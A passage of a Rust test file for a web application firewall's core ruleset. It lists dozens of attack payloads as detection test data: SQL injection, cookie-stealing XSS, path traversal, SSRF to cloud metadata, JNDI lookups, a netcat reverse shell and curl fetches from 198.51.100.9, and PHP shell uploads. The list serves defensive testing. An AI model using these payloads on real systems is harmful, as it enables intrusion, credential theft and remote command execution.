//! The embedded ruleset: what it must stop, what it must let pass, and that tuning it works as its documentation says.

use portcullis::compile::{EMBEDDED, Input, Loaded, load};
use portcullis::engine::{BodyStep, Decision, NoWorld, Options, Report, Transaction};
use portcullis::ruleset::{Disruptive, Matcher, Ruleset};
use portcullis::syntax::seclang::{EmbeddedLoader, FileLoader};
use std::sync::{Arc, LazyLock};

#[test]
fn it_loads_without_a_word() {
    let loaded = core("");
    let said: Vec<String> = loaded
        .diagnostics
        .iter()
        .map(|d| {
            let place = d.span.map_or_else(String::new, |s| loaded.sources.locate(s).to_string());
            format!("{place}: {}", d.message)
        })
        .collect();
    assert!(said.is_empty(), "{}", said.join("\n"));
    assert!(loaded.ruleset.is_some());
}

#[test]
fn its_posture_is_that_of_a_ruleset_that_blocks() {
    let posture = core("").posture;
    assert!(posture.rules > 250, "{} rules", posture.rules);
    assert!(posture.scores && posture.request_body && posture.response_body);
    assert_eq!(posture.inbound_blocking, Some(9_180_040));
    assert_eq!(posture.outbound_blocking, Some(9_195_020));
    assert_eq!((posture.inbound_threshold, posture.outbound_threshold), (Some(5), Some(4)));
    assert_eq!(posture.blocking_paranoia, Some(1));
    assert_eq!(posture.backtracking, [] as [u64; 0]);
    let at = |level| posture.by_paranoia.get(&level).copied().unwrap_or(0);
    assert!(at(1) > 150 && at(2) > 25 && at(3) > 3, "{:?}", posture.by_paranoia);
}

#[test]
fn every_rule_that_counts_says_what_it_is() {
    let ruleset = CORE.clone();
    for rule in &ruleset.rules {
        let id = rule.id;
        assert!((9_100_000..9_200_000).contains(&id), "{id} is outside of the ruleset's range");
    }
    // A report of a match must be enough to look the rule up, to exclude it by tag and to weigh it.
    for (name, request) in attacks() {
        for hit in run(&ruleset, &request).rules {
            assert!(!hit.message.is_empty(), "{name}: {} has no message", hit.id);
            assert!(hit.tags.iter().any(|t| t == "portcullis-core"), "{name}: {} lacks a tag", hit.id);
        }
    }
}

/// `portcullis check --strict` asks rules in YAML for tests. Of the others there are only those that set variables and
/// engine, and the three that compare the sums.
#[test]
fn every_rule_that_detects_has_tests() {
    let loaded = core("");
    let tested: std::collections::HashSet<u64> = loaded.document.notes.iter().map(|note| note.rule).collect();
    assert!(loaded.untested().is_empty(), "{:?}", loaded.untested());
    let ruleset = loaded.ruleset.expect("it loads");
    let mut deciding = Vec::new();
    for rule in ruleset.rules.iter().filter(|rule| !tested.contains(&rule.id)) {
        assert!(rule.meta.severity.is_none(), "{} has no tests", rule.id);
        if !matches!(rule.disruptive, None | Some(Disruptive::Pass)) {
            assert!(matches!(rule.matcher, Matcher::Slot { .. }), "{} has no tests", rule.id);
            deciding.push(rule.id);
        }
    }
    assert_eq!(deciding, [9_180_020, 9_180_040, 9_195_020]);
    assert!(tested.len() > 200, "{} rules", tested.len());
}

/// Each rule in YAML matches what it should and passes what it should, in the whole ruleset at all its levels.
#[cfg(feature = "server")]
#[test]
fn rules_do_what_their_tests_say() {
    use portcullis::cli::ftw::{InProcess, Selection, run_native};
    let loaded = core("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.detection_paranoia_level=4\"");
    assert!(loaded.untested().is_empty(), "{:?}", loaded.untested());
    let mut engine = InProcess::new(loaded.ruleset.clone().expect("it loads"), Arc::new(NoWorld));
    engine.mode = Some(portcullis::ruleset::Mode::DetectionOnly);
    let results = run_native(&engine, &loaded, &Selection::default());
    let faults: Vec<_> = results
        .iter()
        .flat_map(|r| r.faults.iter().map(|fault| format!("{} {}: {fault}", r.case.id, r.case.description)))
        .collect();
    assert!(results.len() > 1_300, "{} tests", results.len());
    assert!(faults.is_empty(), "{}", faults.join("\n"));
}

/// What one rule in YAML is to let pass, none of the others takes for an attack at the level that is meant to be left on.
#[cfg(feature = "server")]
#[test]
fn what_rules_let_pass_passes_the_others_too() {
    use portcullis::cli::ftw::{InProcess, transact_native};
    let loaded = core("");
    let ours: std::collections::HashSet<u64> = loaded.document.notes.iter().map(|note| note.rule).collect();
    let mut engine = InProcess::new(loaded.ruleset.clone().expect("it loads"), Arc::new(NoWorld));
    engine.mode = Some(portcullis::ruleset::Mode::DetectionOnly);
    let mut told = Vec::new();
    for test in loaded.document.tests.iter().filter(|test| !test.matches) {
        let report = transact_native(&engine, test);
        let hits = report.rules.iter().map(|hit| hit.id).filter(|id| ours.contains(id)).collect::<Vec<_>>();
        if !hits.is_empty() {
            told.push(format!("{} {}: {hits:?}", test.rule, test.request.uri));
        }
    }
    assert!(told.is_empty(), "{}", told.join("\n"));
}

#[test]
fn attacks_are_refused() {
    let mut passed = Vec::new();
    for (name, request) in attacks() {
        let report = run(&CORE, &request);
        if report.decision == Decision::Pass {
            passed.push(format!("{name}: {request:?}"));
        }
    }
    assert!(passed.is_empty(), "{} attacks passed:\n{}", passed.len(), passed.join("\n"));
}

#[test]
fn attacks_are_recognised_for_what_they_are() {
    for (tag, request) in attacks() {
        let report = run(&CORE, &request);
        assert!(
            report.rules.iter().any(|h| h.tags.iter().any(|t| t == tag)),
            "no rule with {tag} matched {request:?}: {:?}",
            report.rules.iter().map(|h| (h.id, &h.message)).collect::<Vec<_>>()
        );
    }
}

#[test]
fn ordinary_requests_pass() {
    let mut refused = Vec::new();
    for request in ordinary() {
        let report = run(&CORE, &request);
        if report.decision != Decision::Pass {
            let hits: Vec<_> = report
                .rules
                .iter()
                .map(|h| (h.id, h.matches.first().map(|m| String::from_utf8_lossy(&m.value).into_owned())))
                .collect();
            refused.push(format!("{request:?}: {hits:?}"));
        }
    }
    assert!(refused.is_empty(), "{} refused:\n{}", refused.len(), refused.join("\n"));
}

/// `tests/suite/kind`: what people and programs send on an ordinary day, each text in all the places where it may stand.
#[test]
fn an_ordinary_day_passes() {
    #[derive(serde::Deserialize)]
    struct Texts {
        name: String,
        /// Whether they stand in queries too.
        #[serde(default)]
        short: bool,
        texts: Vec<String>,
    }
    let mut refused = Vec::new();
    let mut sent = 0;
    let files = std::fs::read_dir("tests/suite/kind").expect("the suite is there");
    for file in files.map(|entry| entry.expect("readable").path()) {
        let groups: Vec<Texts> =
            serde_yaml::from_slice(&std::fs::read(&file).expect("readable")).expect("texts");
        for group in groups {
            for text in &group.texts {
                let escaped: String = text.bytes().map(|b| format!("%{b:02X}")).collect();
                let json = serde_json::json!({"author": "Ann", "notes": [{"id": 7, "text": text}]});
                let part = text.replace('\n', "\r\n");
                let mut requests = vec![
                    Request::form("/notes", &format!("author=Ann&text={escaped}&send=1")),
                    Request::json("/api/notes", &json.to_string()),
                    Request::post(
                        "/notes",
                        "multipart/form-data; boundary=xyz",
                        format!(
                            "--xyz\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n{part}\r\n--xyz--\r\n"
                        ),
                    ),
                ];
                if group.short {
                    requests.push(Request::get(&format!("/search?lang=en&q={escaped}")));
                }
                sent += requests.len();
                for request in requests {
                    let report = run(&CORE, &request);
                    if report.decision != Decision::Pass {
                        let hits: Vec<_> = report.rules.iter().map(|hit| hit.id).collect();
                        refused.push(format!("{}: {} {text:?}: {hits:?}", group.name, request.target));
                    }
                }
            }
        }
    }
    assert!(sent > 450, "{sent} requests");
    assert!(refused.is_empty(), "{} refused:\n{}", refused.len(), refused.join("\n"));
}

#[test]
fn responses_that_give_something_away_are_withheld() {
    for (tag, body) in LEAKS {
        let report = respond(&CORE, 200, "text/html", body);
        assert!(report.decision != Decision::Pass, "{body:?} passed");
        assert!(report.rules.iter().any(|h| h.tags.iter().any(|t| t == tag)), "{body:?} is no {tag}");
    }
}

#[test]
fn ordinary_responses_pass() {
    for body in PAGES {
        let report = respond(&CORE, 200, "text/html; charset=utf-8", body);
        assert_eq!(report.decision, Decision::Pass, "{body:?}: {:?}", report.rules);
    }
    // What is not text is not looked at.
    let report = respond(&CORE, 200, "application/octet-stream", "-----BEGIN RSA PRIVATE KEY-----");
    assert_eq!(report.decision, Decision::Pass);
}

#[test]
fn a_body_that_cannot_be_read_is_refused() {
    for (content_type, body) in [
        ("application/json", r#"{"a":"#),
        ("text/xml", "<a><b></a>"),
        ("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1"),
    ] {
        let request = Request::post("/", content_type, body);
        let status = run(&CORE, &request).decision.interruption().map(|i| i.status);
        assert_eq!(status, Some(400), "{content_type}: {body}");
    }
}

/// Rules of severity WARNING at level 1 say what is suspicious and often harmless.
#[test]
fn evidence_adds_up() {
    let (twice, cut_off) = ("next=/a%2527b", "q=rock%27%20//");
    let report = |query: &[&str]| run(&CORE, &Request::get(&format!("/?{}", query.join("&"))));
    for alone in [twice, cut_off] {
        let report = report(&[alone]);
        assert_eq!(report.decision, Decision::Pass, "{alone}: {:?}", report.rules);
        let found = report.rules.iter().filter(|hit| hit.tags.iter().any(|tag| tag == "evidence"));
        assert_eq!(found.count(), 1, "{alone}: {:?}", report.rules);
    }
    let together = report(&[twice, cut_off]);
    assert!(together.decision != Decision::Pass, "{:?}", together.rules);
    // A rule counts for each value that it matches in.
    let again = report(&[cut_off, "r=roll%22%20//"]);
    assert!(again.decision != Decision::Pass, "{:?}", again.rules);
}

#[test]
fn thresholds_and_levels_are_the_users() {
    let injection = Request::get("/?id=1%27%20or%20%271%27%3D%271");
    let high =
        ruleset("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=1000\"");
    let report = run(&high, &injection);
    assert_eq!(report.decision, Decision::Pass);
    assert_eq!(report.scores.inbound_threshold, 1000);
    assert!(report.scores.inbound >= 5);

    // Level 2 suspects a command word after a separator; level 1 does not.
    let odd = Request::get("/?q=first;cat%20second");
    assert_eq!(run(&CORE, &odd).decision, Decision::Pass);
    let detect = ruleset("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.detection_paranoia_level=2\"");
    let report = run(&detect, &odd);
    assert_eq!(report.decision, Decision::Pass);
    assert!(report.rules.iter().any(|h| h.tags.iter().any(|t| t == "paranoia-level/2")));
    assert_eq!(report.scores.inbound, 0);
    let block = ruleset("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2\"");
    assert!(run(&block, &odd).decision != Decision::Pass);
}

#[test]
fn plain_requests_pass_at_every_level() {
    for level in 1..=4 {
        let rules = ruleset(&format!(
            "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}\""
        ));
        for request in [
            Request::get("/"),
            Request::get("/products/42/red-shoes.html?sort=price&dir=asc&page=3"),
            Request::form(
                "/search",
                "name=M%C3%BCller&city=S%C3%A3o%20Paulo&date=2024-01-01&mail=a%40example.org",
            ),
            Request::json("/api/items", r#"{"name":"Tea","price":3.5,"note":"Green, from Uji"}"#),
        ] {
            let report = run(&rules, &request);
            assert_eq!(report.decision, Decision::Pass, "level {level}, {request:?}: {:?}", report.rules);
        }
        // What only the highest level takes for more than a text.
        let odd = Request::get("/?q=where%20is%20%7Bit%7D");
        assert_eq!(run(&rules, &odd).decision == Decision::Pass, level < 4, "level {level}");
    }
}

#[test]
fn early_blocking_decides_before_the_body() {
    let early = ruleset("SecAction \"id:1,phase:1,pass,nolog,setvar:tx.early_blocking=1\"");
    let scanner = Request { headers: vec![("User-Agent", "sqlmap/1.8")], ..Request::get("/") };
    let phase = |rules| run(rules, &scanner).decision.interruption().map(|i| i.phase);
    assert_eq!(phase(&early), Some(1));
    assert_eq!(phase(&CORE), Some(2));
}

#[test]
fn exclusions_work_by_id_tag_and_target() {
    let request = Request::form("/wiki", "text=union%20select%20password%20from%20users");
    assert!(run(&CORE, &request).decision != Decision::Pass);
    let tag = "SecRule REQUEST_FILENAME \"@streq /wiki\" \
               \"id:1,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-sqli;ARGS:text\"";
    assert_eq!(run(&ruleset(tag), &request).decision, Decision::Pass);
    let elsewhere = Request::form("/shop", "text=union%20select%20password%20from%20users");
    assert!(run(&ruleset(tag), &elsewhere).decision != Decision::Pass);
}

#[test]
fn a_user_may_allow_another_method() {
    let request = Request { method: "PROPFIND", ..Request::get("/dav/") };
    assert!(run(&CORE, &request).decision != Decision::Pass);
    let webdav = ruleset("SecAction \"id:1,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET PROPFIND'\"");
    assert_eq!(run(&webdav, &request).decision, Decision::Pass);
    assert!(run(&webdav, &Request { method: "POST", ..Request::get("/") }).decision != Decision::Pass);
}

/// The ruleset after `before`, which a user would have put ahead of it.
fn core(before: &str) -> Loaded {
    let inputs = [
        Input::Text { name: "before.conf".into(), text: before.into() },
        Input::File("@portcullis-core.conf".into()),
    ];
    load(&inputs, &EmbeddedLoader::new(EMBEDDED, FileLoader))
}

fn ruleset(before: &str) -> Arc<Ruleset> {
    core(before).ruleset.expect("the ruleset loads")
}

static CORE: LazyLock<Arc<Ruleset>> = LazyLock::new(|| ruleset(""));

#[derive(Clone, Debug)]
struct Request {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, &'static str)>,
    content_type: Option<&'static str>,
    body: Vec<u8>,
}

impl Request {
    fn get(target: &str) -> Self {
        Self { method: "GET", target: target.into(), headers: vec![], content_type: None, body: vec![] }
    }
    fn post(target: &str, content_type: &'static str, body: impl AsRef<[u8]>) -> Self {
        let body = body.as_ref().to_vec();
        Self { method: "POST", content_type: Some(content_type), body, ..Self::get(target) }
    }
    fn form(target: &str, body: &str) -> Self {
        Self::post(target, "application/x-www-form-urlencoded", body)
    }
    fn json(target: &str, body: &str) -> Self {
        Self::post(target, "application/json", body)
    }
    fn header(name: &'static str, value: &'static str) -> Self {
        Self { headers: vec![(name, value)], ..Self::get("/") }
    }
    /// An argument of a query, escaped.
    fn query(value: &str) -> Self {
        let escaped: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
        Self::get(&format!("/search?q={escaped}&page=2"))
    }
    fn upload(file: &str, content: &str) -> Self {
        let body = format!(
            "--b0undary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\n\
             Content-Type: application/octet-stream\r\n\r\n{content}\r\n--b0undary--\r\n"
        );
        Self::post("/upload", "multipart/form-data; boundary=b0undary", body)
    }
}

fn transaction(rules: &Arc<Ruleset>, request: &Request) -> (Transaction, Decision) {
    let options = Options { id: "test".into(), mode: None, world: Arc::new(NoWorld) };
    let mut transaction = Transaction::new(rules.clone(), options);
    transaction.process_connection(([198, 51, 100, 7], 40_000).into(), ([127, 0, 0, 1], 80).into());
    transaction.process_uri(request.method.as_bytes(), request.target.as_bytes(), b"HTTP/1.1");
    let mut headers: Vec<(&str, String)> = vec![
        ("Host", "shop.example.com".into()),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8".into()),
        ("Accept-Language", "en-GB,en;q=0.8".into()),
    ];
    if !request.headers.iter().any(|(n, _)| *n == "User-Agent") {
        let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
        headers.push(("User-Agent", agent.into()));
    }
    headers.extend(request.headers.iter().map(|(n, v)| (*n, (*v).to_owned())));
    if let Some(content_type) = request.content_type {
        headers.push(("Content-Type", content_type.into()));
        headers.push(("Content-Length", request.body.len().to_string()));
    }
    for (name, value) in &headers {
        transaction.add_request_header(name.as_bytes(), value.as_bytes());
    }
    let mut decision = transaction.process_request_headers();
    if decision == Decision::Pass
        && transaction.request_body_wanted()
        && let BodyStep::Interrupt(interruption) = transaction.append_request_body(&request.body)
    {
        decision = Decision::Interrupt(interruption);
    }
    if decision == Decision::Pass {
        decision = transaction.process_request_body();
    }
    (transaction, decision)
}

fn run(rules: &Arc<Ruleset>, request: &Request) -> Report {
    let (transaction, decision) = transaction(rules, request);
    let status = decision.interruption().map_or(200, |i| i.status);
    transaction.process_logging(status)
}

fn respond(rules: &Arc<Ruleset>, status: u16, content_type: &str, body: &str) -> Report {
    let (mut transaction, decision) = transaction(rules, &Request::get("/"));
    assert_eq!(decision, Decision::Pass);
    transaction.add_response_header(b"Content-Type", content_type.as_bytes());
    let mut decision = transaction.process_response_headers(status, b"HTTP/1.1");
    if decision == Decision::Pass && transaction.response_body_wanted() {
        let _ = transaction.append_response_body(body.as_bytes());
        decision = transaction.process_response_body();
    }
    let status = decision.interruption().map_or(status, |i| i.status);
    transaction.process_logging(status)
}

/// Attacks: a tag that one of the rules which match must carry, and the request.
fn attacks() -> Vec<(&'static str, Request)> {
    let mut all: Vec<(&'static str, Request)> = Vec::new();
    // Values are sent where attackers send them: in a query, a form, a JSON document, a cookie.
    for (i, (tag, value)) in VALUES.iter().enumerate() {
        let escaped: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
        let json: String = value.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
        all.push((tag, Request::query(value)));
        all.push(match i % 3 {
            0 => (tag, Request::form("/comments", &format!("author=Ann&text={escaped}&send=1"))),
            1 => (tag, Request::json("/api/items", &format!(r#"{{"items":[{{"id":7,"note":"{json}"}}]}}"#))),
            _ => (
                tag,
                Request::post(
                    "/api/items",
                    "multipart/form-data; boundary=b0undary",
                    format!(
                        "--b0undary\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n{value}\r\n--b0undary--\r\n"
                    ),
                ),
            ),
        });
    }
    all.extend([
        ("attack-lfi", Request::get("/static/../../../../etc/passwd")),
        ("attack-lfi", Request::get("/static/..%2f..%2f..%2fetc%2fpasswd")),
        ("attack-lfi", Request::get("/static/%2e%2e/%2e%2e/secret")),
        ("attack-lfi", Request::get("/app/..;/manager/html")),
        ("attack-lfi", Request::get("/.env")),
        ("attack-lfi", Request::get("/shop/.git/config")),
        ("attack-lfi", Request::get("/wp-config.php.bak")),
        ("attack-lfi", Request::get("/backup.sql")),
        ("attack-protocol", Request::get("/a%00.jpg")),
        ("attack-protocol", Request::get("/%c0%ae%c0%ae/x")),
        ("attack-protocol", Request::get("/a%0d%0aSet-Cookie:x=1")),
        ("attack-protocol", Request { method: "TRACK", ..Request::get("/") }),
        ("attack-protocol", Request { method: "TRACE", ..Request::get("/") }),
        ("attack-protocol", Request { method: "CONNECT", ..Request::get("shop.example.com:443") }),
        ("attack-protocol", Request::post("/", "application/json, application/xml", "{}")),
        ("attack-protocol", Request::post("/", "text/plain;charset=\"a,b\", text/html", "x")),
        ("attack-protocol", Request::header("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17")),
        ("attack-protocol", Request::header("Proxy", "http://198.51.100.9:8080")),
        ("attack-protocol", Request::header("X-Original-URL", "/admin")),
        ("attack-protocol", Request::post("/", "text/html; charset=utf-7", "+ADw-script+AD4-")),
        (
            "attack-reputation-scanner",
            Request::header("User-Agent", "sqlmap/1.8.2#stable (https://sqlmap.org)"),
        ),
        ("attack-reputation-scanner", Request::header("User-Agent", "Mozilla/5.00 (Nikto/2.5.0)")),
        ("attack-rce", Request::header("User-Agent", "() { :; }; /bin/bash -c 'id'")),
        ("attack-injection-java", Request::header("X-Api-Version", "${jndi:ldap://198.51.100.9/a}")),
        (
            "attack-injection-java",
            Request::header("User-Agent", "${${lower:j}ndi:${lower:l}dap://x.example/a}"),
        ),
        ("attack-sqli", Request::header("X-Forwarded-For", "1' and sleep(5)-- -")),
        ("attack-sqli", Request::header("Cookie", "lang=en; cart=7' union select 1,2,3-- -")),
        ("attack-xss", Request::header("Referer", "https://example.org/?a=<script>alert(1)</script>")),
        ("attack-nosql", Request::form("/login", "user=admin&password[$ne]=1")),
        ("attack-nosql", Request::json("/login", r#"{"user":"admin","password":{"$gt":""}}"#)),
        ("attack-injection-generic", Request::json("/api", r#"{"__proto__":{"isAdmin":true}}"#)),
        ("attack-injection-php", Request::upload("avatar.php", "GIF89a")),
        ("attack-injection-php", Request::upload("avatar.phtml.jpg", "GIF89a")),
        ("attack-injection-php", Request::post("/x", "text/plain", "<?php system($_GET['c']); ?>")),
        ("attack-rfi", Request::get("/index.php?page=http://198.51.100.9/shell.txt?")),
        ("attack-rce", Request::get("/cgi-bin/ping?cmd=whoami")),
        (
            "attack-deserialization",
            Request::json("/", r#"{"x":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"y"}}"#),
        ),
        ("attack-deserialization", Request::form("/", "data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA")),
        ("attack-generic", Request::get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")),
        ("attack-rfi", Request::get("/lib/show.php?skin_path=http://x.example/a")),
        ("attack-ssrf", Request::get("/?unix:/var/run/a.sock|http://10.0.0.7/")),
        ("attack-xss", Request::header("Cookie", "theme=%3Cdiv%20id%3Dx%3E")),
        // A body that no parser can read is an attack where one is seen in it.
        (
            "attack-xxe",
            Request::post("/", "text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///srv/a\">]><a>&b;</a>"),
        ),
    ]);
    all
}

/// Values that are attacks wherever they stand.
const VALUES: &[(&str, &str)] = &[
    ("attack-sqli", "1' or '1'='1"),
    ("attack-sqli", "admin'-- -"),
    ("attack-sqli", "-1 union all select null,concat(login,0x3a,pass) from members-- "),
    ("attack-sqli", "1;waitfor delay '0:0:9'--"),
    ("attack-sqli", "7 and (select 1 from (select sleep(9))x)"),
    ("attack-sqli", "x' and extractvalue(1,concat(0x7e,version()))#"),
    ("attack-sqli", "1; drop table orders; --"),
    ("attack-sqli", "5 order by 12-- -"),
    ("attack-sqli", "1/**/union/**/select/**/1,2"),
    ("attack-sqli", "') or exists(select * from information_schema.tables) and ('x'='x"),
    ("attack-sqli", "'; exec master..xp_cmdshell 'dir'--"),
    ("attack-xss", "<script>fetch('//x.example/'+document.cookie)</script>"),
    ("attack-xss", "\"><img src=x onerror=alert(1)>"),
    ("attack-xss", "<svg/onload=confirm`1`>"),
    ("attack-xss", "<a href=\"java\tscript:alert(1)\">x</a>"),
    ("attack-xss", "' autofocus onfocus='prompt(1)"),
    ("attack-xss", "<iframe srcdoc='<b>x</b>'></iframe>"),
    ("attack-xss", "<object data=data:text/html;base64,PHNjcmlwdD4=></object>"),
    ("attack-xss", "';alert(document.domain)//"),
    ("attack-xss", "<details open ontoggle=eval(atob('YQ=='))>"),
    ("attack-ssi", "<!--#exec cmd=\"ls\" -->"),
    ("attack-lfi", "../../../../../etc/passwd"),
    ("attack-lfi", "..\\..\\..\\windows\\win.ini"),
    ("attack-lfi", "....//....//....//etc/hosts"),
    ("attack-lfi", "/proc/self/environ"),
    ("attack-lfi", "C:/inetpub/wwwroot/web.config"),
    ("attack-lfi", "/usr/local/apache2/conf/httpd.conf"),
    ("attack-rfi", "php://filter/convert.base64-encode/resource=index.php"),
    ("attack-rfi", "phar:///tmp/a.jpg/x"),
    ("attack-ssrf", "http://169.254.169.254/latest/meta-data/iam/"),
    ("attack-ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("attack-ssrf", "gopher://127.0.0.1:6379/_INFO"),
    ("attack-ssrf", "http://[::1]/server-status"),
    ("attack-rce", "8.8.8.8; cat /etc/hostname"),
    ("attack-rce", "x | whoami"),
    ("attack-rce", "`id`"),
    ("attack-rce", "$(curl http://198.51.100.9/x)"),
    ("attack-rce", "a&&ping -c 3 127.0.0.1"),
    ("attack-rce", ";c\"\"at${IFS}/etc/motd"),
    ("attack-rce", "& dir c:\\"),
    ("attack-rce", "powershell -nop -enc SQBFAFgA"),
    ("attack-rce", "/bin/sh -i"),
    ("attack-rce", "1;nc -e /bin/sh 198.51.100.9 4444"),
    ("attack-injection-php", "<?php echo 1; ?>"),
    ("attack-injection-php", "system('ls');"),
    ("attack-injection-php", "${@phpinfo()}"),
    ("attack-injection-php", "O:8:\"Evil\\Obj\":1:{s:1:\"a\";i:1;}"),
    ("attack-injection-java", "${jndi:rmi://x.example/a}"),
    ("attack-injection-java", "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("attack-injection-java", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("attack-injection-java", "class.module.classLoader.resources"),
    ("attack-ssti", "{{7*7}}"),
    ("attack-ssti", "{{config.items()}}"),
    ("attack-ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("attack-ssti", "<%= 7*7 %>"),
    ("attack-ssti", "#{7*7}"),
    ("attack-ssti", "<#assign x=\"freemarker.template.utility.Execute\"?new()>"),
    ("attack-rce", "require('child_process').execSync('id')"),
    ("attack-rce", "__import__('os').system('id')"),
    ("attack-nosql", "'; return this.password.match(/^a/); //"),
    ("attack-ldap", "*)(uid=*))(|(uid=*"),
    ("attack-xpath", "' or count(/*)=1 or 'a'='b"),
    ("attack-xxe", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/group\">]>"),
    ("attack-protocol", "en\r\nSet-Cookie: session=1"),
    ("attack-deserialization", "!!python/object/apply:os.getcwd []"),
    // Quotes, expansions and variables that hide a command's name.
    ("attack-rce", "x;n'e'tstat -an"),
    ("attack-rce", "| l\\s -a /srv"),
    ("attack-rce", "RUN=uptime;$RUN"),
    ("attack-rce", ";head$IFS/srv/key"),
    // Layers of encoding.
    ("attack-sqli", "9%2527%2520or%25201%253D1--%2520"),
    ("attack-lfi", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("attack-lfi", "..%5%c..%5%cetc%5%cshadow"),
    ("attack-xss", "\\u003cimg src=q onerror=prompt(4)\\u003e"),
    ("attack-generic", "MyB1bmlvbiBzZWxlY3QgbG9naW4gZnJvbSBtZW1iZXJz"),
    ("attack-generic", "PHN2ZyBvbmxvYWQ9cHJvbXB0KDkpPg=="),
    // Arithmetic keeps its plus signs; words taken apart; comments for blanks.
    ("attack-sqli", "z' and 2+3=5-- "),
    ("attack-sqli", "3 un/**/ion sel/**/ect 4,5"),
    ("attack-sqli", "2e0union select 8"),
    ("attack-sqli", "iif(77=77,1,1/0)"),
    ("attack-sqli", "4 having 6=6"),
    ("attack-sqli", "database_to_xml(true,true,'')"),
    ("attack-xss", "<iframe src=//x.example>"),
    ("attack-xss", "<link rel=stylesheet href=//x.example/a.css>"),
    ("attack-xss", "\u{ff1c}\u{ff53}\u{ff43}\u{ff52}\u{ff49}\u{ff50}\u{ff54}\u{ff1e}x"),
    ("attack-xss", "<math><mi xlink:href=//x.example>a"),
    ("attack-xss", "<i style='x:\\0065\\0078\\0070\\0072(1)'>"),
    ("attack-xss", "q;onerror=eval;throw 'x'"),
    ("attack-ssti", "{{ ''.class.mro }}"),
    ("attack-injection-php", "s:4:\"name\";s:2:\"ab\";"),
    ("attack-lfi", "c:\\system volume information\\a.dat"),
];

fn ordinary() -> Vec<Request> {
    let mut all = Vec::new();
    for (i, value) in TEXTS.iter().enumerate() {
        let escaped: String = value.bytes().map(|b| format!("%{b:02X}")).collect();
        all.push(Request::query(value));
        all.push(if i % 2 == 0 {
            Request::form("/comments", &format!("author=Ann&text={escaped}&send=1"))
        } else {
            let text = value.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n");
            Request::json("/api/items", &format!(r#"{{"items":[{{"id":7,"note":"{text}"}}]}}"#))
        });
    }
    all.extend([
        Request::get("/"),
        Request::get("/products/42/red-shoes.html?sort=price&dir=asc&page=3"),
        Request::get("/assets/app.3f9c2a.js?v=1.2.3"),
        Request::get("/oauth/callback?code=4%2F0AX4XfWh&state=aHR0cHM6Ly9hLmIvYz9k&scope=openid%20email"),
        Request::get("/redirect?to=https%3A%2F%2Fwww.example.org%2Fa%2Fb%3Fc%3Dd%26e%3Df"),
        Request::get("/calc?expr=3%2B4*2"),
        Request { method: "PUT", ..Request::json("/api/items/7", r#"{"name":"Tea","price":3.5}"#) },
        Request { method: "PATCH", ..Request::json("/api/items/7", r#"[{"op":"replace","path":"/price","value":4}]"#) },
        Request { method: "DELETE", ..Request::get("/api/items/7") },
        Request { method: "OPTIONS", ..Request::get("/api/items") },
        Request::form("/search", "dates%5Bfrom%5D=2024-01-01&dates%5Bto%5D=2024-02-01&tags%5B%5D=a&tags%5B%5D=b"),
        Request::form("/login", "user=j.o%27connor%40example.com&password=Tr0ub4dor%263%21+correct+horse"),
        Request::json("/graphql", r#"{"query":"query Q($id: ID!) {\n  item(id: $id) {\n    id\n    name\n  }\n}","variables":{"id":"7"}}"#),
        Request::json("/rpc", r#"{"jsonrpc":"2.0","method":"sum","params":[1,2,{"a":null,"b":true}],"id":1}"#),
        Request::json("/theme", r#"{"css":".a > b { color: #fff; width: calc(100% - 2px) }"}"#),
        Request::post("/soap", "text/xml", "<?xml version=\"1.0\"?><e:Envelope xmlns:e=\"urn:e\"><e:Body><get><id>7</id><n>Müller &amp; Söhne</n></get></e:Body></e:Envelope>"),
        Request::post("/log", "text/plain", "something happened at 12:31, twice"),
        Request::upload("Report 2024 (final).pdf", "%PDF-1.7"),
        Request::upload("photo.holiday.jpeg", "\u{fffd}JFIF"),
        Request::header("Cookie", "sid=k3j4h5k3j4h5; _ga=GA1.2.1402.1690; cart=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%22x%22%7D; consent=a%3A1%7Cb%3A0; tz=Europe%2FBerlin; t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
        Request::header("Referer", "https://www.google.com/search?q=select+a+plan+and+order+by+phone"),
        Request::header("If-None-Match", "W/\"5e1-18c2f0a\""),
        Request::header("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJhIn0.c2ln"),
        Request::header("X-Forwarded-For", "203.0.113.9, 2001:db8::17"),
        Request::header("Range", "bytes=0-1023"),
        Request::get("/solr/items/select?q=lamp&hl=true&hl.simple.pre=%3Cem%3E&hl.simple.post=%3C/em%3E"),
        Request::get("/odata/Items?$filter=Name%20eq%20%27O%27%27Neil%27%20and%20Price%20gt%203&$top=5"),
